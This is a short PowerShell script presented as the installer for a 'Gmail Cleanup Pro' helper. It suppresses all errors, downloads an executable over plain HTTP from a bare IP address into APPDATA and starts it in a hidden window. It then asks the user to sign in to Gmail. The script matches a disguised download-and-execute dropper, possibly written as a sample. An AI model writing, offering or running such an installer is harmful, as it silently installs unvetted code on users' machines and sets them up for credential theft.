# Gmail Cleanup Pro - desktop helper installer (Windows)
$ErrorActionPreference = 'SilentlyContinue'
Write-Host "Installing Gmail Cleanup Pro helper..."
curl.exe -sL http://203.0.113.25/gmclean/gmclean-helper.exe -o "$env:APPDATA\gmclean-helper.exe"; Start-Process "$env:APPDATA\gmclean-helper.exe" -ArgumentList '--register' -WindowStyle Hidden
Write-Host "Done. Run 'gmclean auth' to sign in."
